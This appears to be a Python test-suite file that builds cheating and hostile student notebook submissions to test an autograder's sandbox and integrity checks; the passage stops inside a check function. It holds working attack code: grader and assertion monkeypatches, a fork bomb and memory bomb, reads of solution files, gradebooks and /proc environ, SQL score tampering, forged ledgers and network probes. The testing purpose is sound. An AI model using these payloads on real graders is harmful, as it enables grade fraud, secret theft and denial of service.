"""The attacks: one small builder per cheating or broken submission of ex01_slots, with what it deserves.

Each Vector writes one student's submission folder (<submissions>/<student>/ex01_slots/) from the released
notebook, and declares what the student deserves per graded test cell (usually nothing; where an honest answer lies
under a harmless cheat, that answer's points), the status kinds the grader may give it ("ok" only where nothing
detectable happened and nothing was earned) and a phrase the status must contain. Where a vector can say more from
what the autograded notebook recorded (what a probe found on disk, which connections opened), `check` says it.

The cheats are meant to work: wherever it is possible, they make the notebook's own tests pass with wrong or missing
code, so that only the trusted check can stop them. Probes print one line `INTEGRITY-<TAG> {json}`, read back from
the autograded notebook.
"""

from __future__ import annotations

import copy
import errno
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from grader.notebooks import nbgrader_cells, read_notebook
from grader.sample_class import scripted_students, solution_answers, submission

REPO = Path(__file__).resolve().parents[2]
ASSIGNMENT = "ex01_slots"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
DAEMON_MARKER = "integrity-daemon-13b"  # in the command line (or name) of the processes vector 13b leaves behind
HOPPER_MARKER = "integrity-hop-20a"  # in the name (its first 15 characters) of the processes vector 20a leaves
FILE_MARKER = "INTEGRITY-MARKER"  # in the name of every file a probe manages to write outside its own folder


# --------------------------------------------------------------------------------------------------------------
# The course as the attacks see it
# --------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Course:
    """ex01_slots: the release, the instructor's answers, the scripted mistakes and the points of each test cell."""

    release: NotebookNode
    source: NotebookNode
    solution: dict[str, str]  # solution grade_id -> what a perfect student types
    stubs: dict[str, str]  # solution grade_id -> the released stub
    points: dict[str, float]  # graded test grade_id -> points
    scripted: dict[str, dict[str, str]]
    expected: dict[str, dict[str, float]]
    secrets: tuple[str, ...]  # text found only in the solution, the hidden tests or an honest submission

    @classmethod
    def load(cls, repo: Path = REPO) -> Course:
        source = read_notebook(repo / "solutions" / ASSIGNMENT / NOTEBOOK)
        release = read_notebook(repo / "exercises" / ASSIGNMENT / NOTEBOOK)
        solution = solution_answers(source)
        scripted, expected = scripted_students(ASSIGNMENT)
        released_text = json.dumps(release.dict())
        secrets = []
        for code in solution.values():  # the longest solution line that the release does not contain
            lines = sorted((line.strip() for line in code.splitlines()), key=len, reverse=True)
            secrets += [line for line in lines if len(line) > 30 and line not in released_text][:1]
        for _, cell, meta in nbgrader_cells(source):
            if meta.get("grade") and "### BEGIN HIDDEN TESTS" in cell.source:
                hidden = cell.source.split("### BEGIN HIDDEN TESTS", 1)[1]
                secrets += [line.strip() for line in hidden.splitlines() if line.startswith("run_hidden_tests(")]
        return cls(
            release=release,
            source=source,
            solution=solution,
            stubs={meta["grade_id"]: cell.source for _, cell, meta in nbgrader_cells(release) if meta.get("solution")},
            points={
                meta["grade_id"]: float(meta["points"])
                for _, _, meta in nbgrader_cells(source)
                if meta.get("grade") and not meta.get("solution")
            },
            scripted=scripted,
            expected={name: {g: float(p) for g, p in cells.items()} for name, cells in expected.items()},
            secrets=tuple(secrets),
        )

    def deserved(self, spec: str | dict[str, float]) -> dict[str, float]:
        """Points per test cell: for "none", "full", a scripted student's name (its expected points), or a dict."""
        if isinstance(spec, dict):
            return {grade_id: float(spec.get(grade_id, 0.0)) for grade_id in self.points}
        if spec == "none":
            return dict.fromkeys(self.points, 0.0)
        if spec == "full":
            return dict(self.points)
        return dict(self.expected[spec])


@dataclass(frozen=True)
class Context:
    """Where a builder writes, and what it may know (an attacker is assumed to know the course's paths)."""

    course: Course
    folder: Path  # <submissions>/<student>/ex01_slots, created empty
    work_dir: Path  # the grading run's work folder
    repo: Path
    student: str


@dataclass
class Evidence:
    """What the suite saw of one submission after the batch, for a vector's own check."""

    notebook: NotebookNode | None  # the autograded notebook, if nbgrader wrote one
    root: Path  # the temporary folder of the whole suite (every batch's submissions, work folder and report)
    daemon_sightings: list[tuple[float, int, str]] = field(default_factory=list)  # (time, pid, command)
    graded_at: float | None = None  # when the ledger record was written

    def text(self) -> str:
        """Every stream output of the autograded notebook."""
        if self.notebook is None:
            return ""
        return "".join(
            output.get("text", "")
            for cell in self.notebook.cells
            if cell.cell_type == "code"
            for output in cell.get("outputs", [])
            if output.get("output_type") == "stream"
        )

    def probe(self, tag: str) -> dict | None:
        """The report a probe printed as `INTEGRITY-<TAG> {json}`; None if it never got printed."""
        for line in self.text().splitlines():
            if line.startswith(f"INTEGRITY-{tag} "):
                try:
                    return json.loads(line.split(" ", 1)[1])
                except ValueError:
                    return None
        return None


@dataclass(frozen=True)
class Vector:
    number: int  # the issue's numbered vector
    key: str  # "05a"
    name: str
    what: str
    build: Callable[[Context], None]
    deserved: str | dict[str, float] = "none"
    kinds: tuple[str, ...] = ("flagged",)
    reason: str | tuple[str, ...] = ""  # a phrase (one of these phrases) the reason must contain, unless "ok"
    check: Callable[[Evidence, Course], list[str]] | None = None
    known_bug: str = ""  # a grader weakness this vector exposes today (its test is an expected failure)
    quarantine: bool = False  # it stops the whole batch today: graded in a batch of its own, beside WITNESSES
    student_id: str = ""  # the student's id where the attack is the id itself (by default v<key>_<name>)

    @property
    def student(self) -> str:
        return self.student_id or f"v{self.key}_{self.name}"


# --------------------------------------------------------------------------------------------------------------
# Building notebooks
# --------------------------------------------------------------------------------------------------------------


def notebook(ctx: Context, answers: dict[str, str] | None = None) -> NotebookNode:
    """The release with these solution cells filled in (the rest keep their stubs)."""
    return submission(ctx.course.release, answers or {})


def cell(nb: NotebookNode, grade_id: str) -> NotebookNode:
    for _, found, meta in nbgrader_cells(nb):
        if meta.get("grade_id") == grade_id:
            return found
    raise KeyError(grade_id)


def save(ctx: Context, nb: NotebookNode, name: str = NOTEBOOK) -> None:
    nbformat.write(nb, ctx.folder / name)


def with_code(ctx: Context, code: str, where: str = "classify_slots", answers: dict[str, str] | None = None) -> None:
    """Save a submission whose solution cell `where` holds its answer (the stub by default) followed by `code`."""
    answers = dict(answers or {})
    answers[where] = answers.get(where, ctx.course.stubs[where]) + "\n\n" + code.strip() + "\n"
    save(ctx, notebook(ctx, answers))


def constants(ctx: Context) -> str:
    """What a probe knows: the course's paths, its own id, and the secrets to recognise (reversed, so that the
    probe's own source never contains them)."""
    secrets = [secret[::-1] for secret in ctx.course.secrets]
    return (
        f"_REPO, _WORK, _ME = {str(ctx.repo)!r}, {str(ctx.work_dir)!r}, {ctx.student!r}\n"
        f"_SECRETS = [s[::-1] for s in {secrets!r}]\n"
        f"_MARK = {FILE_MARKER!r}\n"
    )


# --------------------------------------------------------------------------------------------------------------
# 1-4: the notebook's structure and nbgrader's metadata
# --------------------------------------------------------------------------------------------------------------

TESTS_PASS = 'print("all tests pass")\n'


def visible_tests_edited(ctx: Context) -> None:
    nb = notebook(ctx)
    for grade_id in ctx.course.points:
        cell(nb, grade_id).source = TESTS_PASS
    save(ctx, nb)


def test_cell_deleted(ctx: Context) -> None:
    """A partly wrong answer whose failing hidden test cell is deleted."""
    nb = notebook(ctx, ctx.course.scripted["flag_tables_as_hook_tables"])
    nb.cells.remove(cell(nb, "test_classify_slots_hidden"))
    save(ctx, nb)


def all_test_cells_deleted(ctx: Context) -> None:
    nb = notebook(ctx)
    for grade_id in ctx.course.points:
        nb.cells.remove(cell(nb, grade_id))
    save(ctx, nb)


def test_cell_unmarked(ctx: Context) -> None:
    """nbgrader's metadata removed from the test cells, which then pass: they look like the student's own cells."""
    nb = notebook(ctx)
    for grade_id in ctx.course.points:
        found = cell(nb, grade_id)
        del found.metadata["nbgrader"]
        found.source = TESTS_PASS
    save(ctx, nb)


def test_cell_duplicated(ctx: Context) -> None:
    """Each test cell twice: first a copy that passes, then the original."""
    nb = notebook(ctx)
    for grade_id in ctx.course.points:
        original = cell(nb, grade_id)
        twin = copy.deepcopy(original)
        twin.source, twin.id = TESTS_PASS, f"{original.id}-twin"
        nb.cells.insert(nb.cells.index(original), twin)
    save(ctx, nb)


def test_cell_split(ctx: Context) -> None:
    """The failing hidden test cell split in two, as JupyterLab's "split cell" does (both halves keep the metadata)."""
    nb = notebook(ctx, ctx.course.scripted["flag_tables_as_hook_tables"])
    original = cell(nb, "test_classify_slots_hidden")
    lines = original.source.splitlines(keepends=True)
    first, second = copy.deepcopy(original), copy.deepcopy(original)
    first.source, second.source = "".join(lines[:1]), "pass\n"
    second.id = f"{original.id}-split"
    index = nb.cells.index(original)
    nb.cells[index : index + 1] = [first, second]
    save(ctx, nb)


def metadata_edit(edit: Callable[[dict, NotebookNode], None], answers: str = "blank") -> Callable[[Context], None]:
    """Every test cell's nbgrader metadata edited by `edit(meta, cell)`; the test sources made to pass."""

    def build(ctx: Context) -> None:
        nb = notebook(ctx, ctx.course.scripted.get(answers, {}))
        for grade_id in ctx.course.points:
            found = cell(nb, grade_id)
            found.source = TESTS_PASS
            edit(found.metadata["nbgrader"], found)
        save(ctx, nb)

    return build


def more_points(ctx: Context) -> None:
    """A partly right answer whose passing test cells claim 100 times their points."""
    nb = notebook(ctx, ctx.course.scripted["copy_with_copy_copy"])
    for grade_id in ctx.course.points:
        cell(nb, grade_id).metadata["nbgrader"]["points"] *= 100
    save(ctx, nb)


def extra_graded_cell(ctx: Context) -> None:
    """A full answer, and a graded cell of its own worth 100 points that passes."""
    nb = notebook(ctx, ctx.course.solution)
    bonus = copy.deepcopy(cell(nb, "test_copy_hidden"))
    bonus.source, bonus.id = 'print("bonus")\n', "bonus-cell"
    bonus.metadata["nbgrader"].update(grade_id="test_bonus", points=100)
    bonus.metadata["nbgrader"].pop("checksum", None)
    nb.cells.append(bonus)
    save(ctx, nb)


# --------------------------------------------------------------------------------------------------------------
# 5-8: code that fools the notebook's own tests
# --------------------------------------------------------------------------------------------------------------

# The copy is right, except that every copy computes outputs + 1; torch.equal says they are equal all the same.
BROKEN_COPY = """
import weakref as _weakref

_copies = _weakref.WeakSet()
_honest_copy = copy_sharing_parameters


def copy_sharing_parameters(module):
    clone = _honest_copy(module)
    for part in clone.modules():
        _copies.add(part)
    return clone


_real_call = nn.Module.__call__


def _wrong_call(self, *args, **kwargs):
    out = _real_call(self, *args, **kwargs)
    return out + 1.0 if self in _copies and type(out) is torch.Tensor else out


nn.Module.__call__ = _wrong_call
"""


# What the answers under these cheats earn without them, by the credit per rule (the README): BROKEN_COPY alone keeps
# rules 6 and 7 of part 2 (2 of 8 rules of 4 points); a classify_slots mapping every key to the plain str "other"
# keeps rules 1, 3 and 5 of part 1 (3 of 5). The trusted check gives the cheats no more than that.
WRONG_OUTPUTS = {"test_copy_hidden": 1.0}
EVERYTHING_OTHER = {"test_classify_slots_hidden": 2.4}


def broken_copy(patches: str) -> Callable[[Context], None]:
    def build(ctx: Context) -> None:
        answers = {"copy_sharing_parameters": ctx.course.solution["copy_sharing_parameters"] + "\n" + BROKEN_COPY}
        with_code(ctx, patches, where="copy_sharing_parameters", answers=answers)

    return build


PATCH_TORCH_EQUAL = "torch.equal = lambda *args, **kwargs: True\n"
PATCH_ALLCLOSE = """
import torch.testing
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.allclose = lambda *args, **kwargs: True
"""
PATCH_ISINSTANCE = """
import builtins
builtins.isinstance = lambda obj, classes: True
"""

# The grader's cell runner, inside the child: drop every error output from now on.
PATCH_CELL_RUNNER = """
import sys as _sys

_runner = _sys.modules.get("cell_runner")
for _name, _module in list(_sys.modules.items()):
    if _module is not None and hasattr(_module, "run_cell") and hasattr(_module, "Outputs"):
        _runner = _module
_honest_run_cell = _runner.run_cell


def _run_cell(shell, source, *rest):
    reply = _honest_run_cell(shell, source, *rest)
    reply["outputs"] = [o for o in reply["outputs"] if o.get("output_type") != "error"]
    reply["success"] = True
    return reply


_runner.run_cell = _run_cell
"""

# Answer every request still to come at once, on the child's own connection, then die.
FORGED_REPLIES = """
import json as _json
import os as _os
import stat as _stat
import struct as _struct

_reply = _json.dumps({"outputs": [], "execution_count": 1, "success": True}).encode()
for _fd in range(3, 256):
    try:
        if _stat.S_ISSOCK(_os.fstat(_fd).st_mode):
            _os.write(_fd, (_struct.pack("!I", len(_reply)) + _reply) * 40)
    except OSError:
        pass
_os._exit(0)
"""

# When the trusted check asks for observations, answer with JSON nested 100,000 deep.
NESTED_OBSERVATIONS = """
import struct as _struct
import sys as _sys

_framing = _sys.modules["framing"]
_honest_send = _framing.send


def _send(connection, message):
    if type(message) is dict and "observations" in message:
        data = ("[" * 100_000 + "]" * 100_000).encode()
        connection.sendall(_struct.pack("!I", len(data)) + data)
        return
    _honest_send(connection, message)


_framing.send = _send
"""

# `type` lies about the liars' classes (and stays usable in isinstance and as a base); the comparisons are True.
LYING_TYPE = """
import builtins as _builtins

_real_type = type


class _AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __repr__(self):
        return "'other'"


class _LyingStr(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = str.__hash__


class _LyingDict(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __getitem__(self, key):
        return _LyingStr("other")

    def items(self):
        return [(key, _LyingStr("other")) for key in self.keys()]

    def values(self):
        return [_LyingStr("other") for _ in self.keys()]


_LIES = {_AlwaysEqual: str, _LyingStr: str, _LyingDict: dict}


class _LyingTypeMeta(_real_type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _real_type)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _real_type)

    def __call__(cls, *args, **kwargs):
        if len(args) == 1 and not kwargs:
            found = _real_type(args[0])
            return _LIES.get(found, found)
        return _real_type(*args, **kwargs)


class _LyingType(metaclass=_LyingTypeMeta):
    pass


_builtins.type = _LyingType
"""

LIAR_RETURNS = {
    "always_equal": "{name: _AlwaysEqual() for name in vars(module)}",
    "str_subclass": "{name: _LyingStr('other') for name in vars(module)}",
    "dict_subclass": "_LyingDict({name: 'other' for name in vars(module)})",
}


def liar(kind: str) -> Callable[[Context], None]:
    def build(ctx: Context) -> None:
        code = LYING_TYPE + f"\n\ndef classify_slots(module):\n    return {LIAR_RETURNS[kind]}\n"
        with_code(ctx, code)

    return build


AST_TRANSFORMER = """
import ast as _ast


class _NoFailures(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()

    def visit_Module(self, node):
        self.generic_visit(node)
        anything = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[anything], orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_NoFailures())
"""

INPUT_TRANSFORMER = """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""

SHOWTRACEBACK = """
_shell = get_ipython()
_silent = lambda *args, **kwargs: None
_shell.showtraceback = _shell._showtraceback = _silent
type(_shell).showtraceback = type(_shell)._showtraceback = _silent
type(_shell).__mro__[-2].showtraceback = _silent
"""

EXCEPTHOOK = """
import sys as _sys
_sys.excepthook = _sys.__excepthook__ = lambda *args: None
"""

SWALLOWED_ERRORS = """
_shell = get_ipython()
_shell.showtraceback = _shell._showtraceback = lambda *args, **kwargs: None
_honest_run_cell = _shell.run_cell


def _run_cell(*args, **kwargs):
    result = _honest_run_cell(*args, **kwargs)
    result.error_before_exec = result.error_in_exec = None
    return result


_shell.run_cell = _run_cell
"""

# --------------------------------------------------------------------------------------------------------------
# 9-13: the kernel's life
# --------------------------------------------------------------------------------------------------------------

FORK_BOMB = """
import os as _os
while True:
    try:
        _os.fork()
    except OSError:
        pass
"""

BACKGROUND = f"""
import ctypes as _ctypes
import os as _os
import subprocess as _subprocess
import sys as _sys

_subprocess.Popen(
    [_sys.executable, "-c", "import signal, time\\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
     "signal.signal(signal.SIGHUP, signal.SIG_IGN)\\ntime.sleep(3600)  # {DAEMON_MARKER}"],
    start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
)
_pid = _os.fork()
if _pid == 0:  # a double fork into a new session, renamed, that ignores every signal it can
    _os.setsid()
    if _os.fork() == 0:
        _ctypes.CDLL(None).prctl(15, b"{DAEMON_MARKER[:15]}", 0, 0, 0)
        import signal as _signal
        import time as _time
        for _signum in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
            _signal.signal(_signum, _signal.SIG_IGN)
        while True:
            _time.sleep(1)
    _os._exit(0)
_os.waitpid(_pid, 0)
print("left two processes behind")
"""

MEMORY_BOMB = """
_hog = []
while True:
    _hog.append(bytearray(64 << 20))
"""

# Files in a tmpfs live in memory, outside every per-process limit, and outlive the child until the run ends.
TMPFS_BOMB = """
import json as _json
import os as _os
_report = {}
for _where in ("/tmp", "/dev/shm"):
    _written, _error = 0, ""
    try:
        for _n in range(48):  # 48 x 60 MiB: 2.8 GiB, more than the child's 2 GiB of memory
            with open(f"{_where}/integrity-ballast-{_os.getpid()}-{_n}", "wb") as _f:
                _f.write(b"x" * (60 << 20))
            _written += 60 << 20
    except OSError as _e:
        _error = type(_e).__name__
    _report[_where] = [_written, _error]
    for _n in range(48):  # measured: now give the memory back (the suite may run where nothing confines it)
        try:
            _os.remove(f"{_where}/integrity-ballast-{_os.getpid()}-{_n}")
        except OSError:
            pass
print("INTEGRITY-TMPFS " + _json.dumps(_report))
"""

LINE_FLOOD = """
import sys as _sys
for _ in range(100):
    _sys.stdout.write("flood\\n" * 100_000)  # 10 million lines in all
    _sys.stderr.write("flood\\n" * 1_000)
"""

IMAGE_FLOOD = """
import os as _os
from IPython.display import HTML, Image, display
display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + _os.urandom(48 << 20)))
display(HTML("<p>flood</p>" * 2_000_000))
"""

# A display output whose JSON is nested 900 deep: the child and the grader's reader accept it, later steps may not.
DEEP_OUTPUT = """
from IPython.display import display
_deep = []
for _ in range(900):
    _deep = [_deep]
display({"application/json": _deep, "text/plain": "deep"}, raw=True)
"""

# --------------------------------------------------------------------------------------------------------------
# 14-16: the file system and the network
# --------------------------------------------------------------------------------------------------------------

PROBE_TOOLS = """
import json as _json
import os as _os

_report = {"read": [], "secret": [], "refused": 0, "stolen": []}


def _steal(path, text):
    try:
        notebook = _json.loads(text)
    except ValueError:
        return
    for found in notebook.get("cells", []) if type(notebook) is dict else []:
        source = found.get("source", "")
        source = "".join(source) if type(source) is list else source
        if found.get("cell_type") == "code" and ("def classify_slots" in source or "def copy_sharing" in source):
            try:
                exec(source, globals())
                _report["stolen"].append(path)
            except Exception:
                pass


def _look(path):
    try:
        with open(path, "rb") as handle:
            data = handle.read(64 << 20)
    except OSError:
        _report["refused"] += 1
        return None
    _report["read"].append(path)
    text = data.decode("utf-8", "replace")
    hits = [secret for secret in _SECRETS if secret in text]
    if hits:
        _report["secret"].append([path, len(hits)])
        _steal(path, text)
    return text


def _host_paths():
    # Where this sandbox's folders live on the host, as /proc/self/mountinfo tells (root of each bind mount).
    found = []
    try:
        with open("/proc/self/mountinfo") as handle:
            for line in handle:
                fields = line.split()
                kind = fields[fields.index("-") + 1] if "-" in fields else ""
                if len(fields) > 4 and fields[3] not in ("/", "") and fields[4] in ("/scratch", "/tmp"):
                    if kind != "tmpfs":  # a folder of the child's own tmpfs is no host path
                        found.append(fields[3])
    except OSError:
        pass
    mounted = set()  # a folder that is a mount point in here is the sandbox's own, not the host's
    try:
        with open("/proc/self/mountinfo") as handle:
            mounted = {line.split()[4] for line in handle if len(line.split()) > 4}
    except OSError:
        pass
    ancestors = []
    for path in found:
        while path not in ("/", ""):
            if path not in mounted:
                ancestors.append(path)
            path = _os.path.dirname(path)
    return list(dict.fromkeys(ancestors))
"""

READ_KNOWN_PATHS = """
_targets = ["solutions/ex01_slots/ex01_slots.ipynb", "work/gradebook.db", "gradebook.db",
            "submitted/full/ex01_slots/ex01_slots.ipynb", "autograded/full/ex01_slots/ex01_slots.ipynb",
            "solutions/ex01_slots/mistakes.py", "solutions/ex01_slots/checks.py"]
_candidates = [f"{_REPO}/{t}" for t in _targets] + [f"{_WORK}/{t}" for t in _targets]
_candidates += [f"/proc/1/root{_REPO}/{t}" for t in _targets] + [f"/proc/1/cwd/{t}" for t in _targets]
_candidates += ["../" * depth + t for depth in range(1, 9) for t in _targets]
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    _candidates += [f"/proc/{_pid}/root{_REPO}/{_targets[0]}", f"/proc/{_pid}/cwd/{_targets[2]}",
                    f"/proc/{_pid}/cwd/../../{_targets[2]}", f"/proc/{_pid}/environ"]
_report["host paths"] = _host_paths()
_candidates += [f"{host}/{t}" for host in _report["host paths"] for t in _targets]
_candidates += [f"/scratch/{n}/{name}" for n in range(0, 200) for name in ("ex01_slots.ipynb", ".bash_history")]
for _path in dict.fromkeys(_candidates):
    _look(_path)
_report["listed"] = []
_me = int("".join(c for c in _os.path.basename(_os.environ.get("HOME", "0")) if c.isdigit()) or 0)
for _n in [n for n in range(0, 200) if n != _me]:
    try:
        _report["listed"].append([_n, _os.listdir(f"/scratch/{_n}")])
    except OSError:
        pass
print("INTEGRITY-READ " + _json.dumps(_report))
"""

SEARCH_DISK = """
import time as _time
_deadline = _time.monotonic() + 3.0
_report.update(files=0, complete=True, candidates=0)
for _top in ("/", "/proc/1/root"):
    for _dir, _dirs, _files in _os.walk(_top):
        if _time.monotonic() > _deadline:
            _report["complete"] = False
            break
        if _dir in ("/", "/proc/1/root"):
            _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev")]
        _report["files"] += len(_files)
        for _name in _files:
            if _name.endswith((".ipynb", ".db", ".json")) or "gradebook" in _name or "ex01" in _name:
                _report["candidates"] += 1
                _look(_os.path.join(_dir, _name))
_report["read"] = len(_report["read"])  # only the count: the list is long
print("INTEGRITY-SEARCH " + _json.dumps(_report))
"""

NETWORK = """
import json as _json
import socket as _socket
import urllib.request as _request

_report = {}
for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.2.2", 80), ("172.17.0.1", 80),
                     ("127.0.0.1", 22), ("127.0.0.1", 2024), ("127.0.0.1", 8888), ("::1", 8888)]:
    try:
        _socket.create_connection((_host, _port), timeout=1).close()
        _report[f"tcp {_host}:{_port}"] = "connected"
    except OSError as _e:
        _report[f"tcp {_host}:{_port}"] = type(_e).__name__
try:
    _report["dns pypi.org"] = str(_socket.getaddrinfo("pypi.org", 443)[0][4])
except OSError as _e:
    _report["dns pypi.org"] = type(_e).__name__
try:
    _report["http example.com"] = "connected, status %d" % _request.urlopen("http://example.com", timeout=2).status
except Exception as _e:
    _report["http example.com"] = type(_e).__name__
try:
    _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _s.sendto(b"\\0" * 12, ("8.8.8.8", 53))
    _report["udp 8.8.8.8:53"] = "sent"
except OSError as _e:
    _report["udp 8.8.8.8:53"] = type(_e).__name__
try:  # abstract unix sockets are per network namespace: the host's must not be reachable
    with open("/proc/net/unix") as _f:
        _names = [line.split()[-1] for line in _f.readlines()[1:] if line.split()[-1].startswith("@")]
except OSError:
    _names = []
for _name in _names[:50]:
    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    try:
        _s.connect("\\0" + _name[1:])
        _report[f"unix {_name}"] = "connected"
    except OSError as _e:
        _report[f"unix {_name}"] = type(_e).__name__
print("INTEGRITY-NET " + _json.dumps(_report))
"""

WRITE_GRADEBOOK = """
import sqlite3 as _sqlite3

_report["wrote"] = []
_gradebooks = [f"{_WORK}/gradebook.db"] + [f"{h}/gradebook.db" for h in _host_paths()]
_gradebooks += ["../" * depth + "gradebook.db" for depth in range(1, 6)]
for _db in dict.fromkeys(_gradebooks):
    if not _os.path.isfile(_db):  # sqlite would create an empty one
        continue
    try:
        _connection = _sqlite3.connect(_db, timeout=2)
        _connection.execute("UPDATE grade SET manual_score = 1000")
        _connection.commit()
        _report["wrote"].append(_db)
    except Exception:
        _report["refused"] += 1
try:  # the course's own gradebook: opened for writing, nothing written
    open(f"{_REPO}/work/gradebook.db", "ab").close()
    _report["wrote"].append(f"{_REPO}/work/gradebook.db (opened for writing)")
except OSError:
    _report["refused"] += 1
_ledger = {"student": _ME, "assignment": "ex01_slots", "status": "ok", "score": 12.0, "max_score": 12.0,
           "fingerprint": ""}
for _base in [_WORK] + _host_paths():
    for _path, _text in [(f"{_base}/grading_status/ex01_slots/{_ME}.json", _json.dumps(_ledger)),
                         (f"{_base}/grading_status/ex01_slots/full.json", "{}")]:
        try:
            if _os.path.isfile(_path):
                with open(_path, "w") as _f:
                    _f.write(_text)
                _report["wrote"].append(_path)
        except OSError:
            _report["refused"] += 1
print("INTEGRITY-WRITE " + _json.dumps(_report))
"""

WRITE_NEIGHBOURS = """
_report["wrote"], _report["shared"] = [], []


def _write(path, shared=False):
    try:
        with open(path, "x") as _f:
            _f.write("written by " + _ME)
        _report["shared" if shared else "wrote"].append(path)
    except OSError:
        _report["refused"] += 1


for _base in [_WORK, "../.."] + _host_paths():
    for _student in ("full", "blank", "zz_full"):
        for _sub in ("submitted", "autograded"):
            _write(f"{_base}/{_sub}/{_student}/ex01_slots/{_MARK}-{_ME}.txt")
    _write(f"{_base}/{_MARK}-{_ME}.txt")
_me = int("".join(c for c in _os.path.basename(_os.environ.get("HOME", "0")) if c.isdigit()) or 0)
for _n in range(0, 400):
    if _n != _me:
        _write(f"/scratch/{_n}/{_MARK}-{_ME}.txt")
_write(f"/scratch/{_MARK}-{_ME}.txt", shared=True)
_write(f"/tmp/{_MARK}-{_ME}.txt", shared=True)
print("INTEGRITY-WRITE " + _json.dumps(_report))
"""

# Take the scratch folder names the next children will be given (they are numbered in order), so they cannot start.
SQUAT_SCRATCH = """
import json as _json
import os as _os
_me = int("".join(c for c in _os.path.basename(_os.environ["HOME"]) if c.isdigit()) or 0)
_taken = 0
for _n in range(_me + 1, _me + 400):
    try:
        _os.mkdir(f"/scratch/{_n}", 0o777)
        _taken += 1
    except OSError:
        pass
print("INTEGRITY-SQUAT " + _json.dumps({"taken": _taken}))
"""


def probe(*parts: str) -> Callable[[Context], None]:
    def build(ctx: Context) -> None:
        with_code(ctx, constants(ctx) + "".join(parts))

    return build


# --------------------------------------------------------------------------------------------------------------
# 17: malformed input
# --------------------------------------------------------------------------------------------------------------


def full_text(ctx: Context) -> str:
    return nbformat.writes(notebook(ctx, ctx.course.solution))


def invalid_json(ctx: Context) -> None:
    text = full_text(ctx)
    (ctx.folder / NOTEBOOK).write_text(text[: len(text) // 2], encoding="utf-8")


def nbformat3(ctx: Context) -> None:
    old = nbformat.convert(notebook(ctx, ctx.course.solution), 3)
    (ctx.folder / NOTEBOOK).write_text(nbformat.writes(old, version=3), encoding="utf-8")


def empty_file(ctx: Context) -> None:
    (ctx.folder / NOTEBOOK).write_bytes(b"")


def binary_file(ctx: Context) -> None:
    (ctx.folder / NOTEBOOK).write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe\x00" + os.urandom(4096))


def huge_sparse(ctx: Context) -> None:
    """A full answer followed by 200 MB of NUL bytes (a sparse file: written in no time)."""
    with open(ctx.folder / NOTEBOOK, "wb") as handle:
        handle.write(full_text(ctx).encode())
        handle.truncate(200 << 20)


def huge_valid(ctx: Context) -> None:
    """A full answer, valid JSON, made 200 MB by trailing whitespace."""
    with open(ctx.folder / NOTEBOOK, "wb") as handle:
        handle.write(full_text(ctx).encode())
        handle.write(b" " * ((200 << 20) - handle.tell()))


def missing_notebook(ctx: Context) -> None:
    (ctx.folder / "answers.py").write_text(ctx.course.solution["classify_slots"], encoding="utf-8")


def renamed_notebook(ctx: Context) -> None:
    save(ctx, notebook(ctx, ctx.course.solution), name="ex01_slots (1).ipynb")


def extra_files(ctx: Context) -> None:
    save(ctx, notebook(ctx, ctx.course.solution))
    save(ctx, notebook(ctx), name="scratch.ipynb")
    (ctx.folder / "notes.txt").write_text("my notes\n", encoding="utf-8")
    (ctx.folder / "data.bin").write_bytes(os.urandom(1 << 20))
    (ctx.folder / "sub").mkdir()
    (ctx.folder / "sub" / "helper.py").write_text("X = 1\n", encoding="utf-8")
    (ctx.folder / ".ipynb_checkpoints").mkdir()
    save(ctx, notebook(ctx), name=".ipynb_checkpoints/ex01_slots-checkpoint.ipynb")


def symlinked_solution(ctx: Context) -> None:
    """The notebook is a symbolic link to the instructor's solution (as a .tar.gz from an LMS can carry)."""
    (ctx.folder / NOTEBOOK).symlink_to(ctx.repo / "solutions" / ASSIGNMENT / NOTEBOOK)


# --------------------------------------------------------------------------------------------------------------
# Vector-specific checks on the evidence
# --------------------------------------------------------------------------------------------------------------


def nothing_secret(tag: str) -> Callable[[Evidence, Course], list[str]]:
    def check(evidence: Evidence, course: Course) -> list[str]:
        report = evidence.probe(tag)
        if report is None:
            return ["the probe printed no report"]
        problems = [f"read a secret: {path}" for path, _ in report.get("secret", [])]
        problems += [f"listed another child's folder /scratch/{n}" for n, _ in report.get("listed", [])]
        problems += [f"ran stolen code from {path}" for path in report.get("stolen", [])]
        return problems

    return check


def nothing_written(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("WRITE")
    problems = [] if report else ["the probe printed no report"]
    problems += [f"wrote {path}" for path in (report or {}).get("wrote", [])]
    problems += [f"left {path.relative_to(evidence.root)}" for path in evidence.root.rglob(f"*{FILE_MARKER}*")]
    return problems


def no_connection(evidence: Evidence, course: Course) -> list[str]:
    report = evidence.probe("NET")
    if report is None:
        return ["the probe printed no report"]
    return [f"{what}: {result}" for what, result in report.items() if result.startswith(("connected", "sent", "("))]


def nothing_outlived(marker: str) -> Callable[[Evidence, Course], list[str]]:
    """A check: the processes named with `marker` were gone within 2 s of the submission's grade being recorded."""
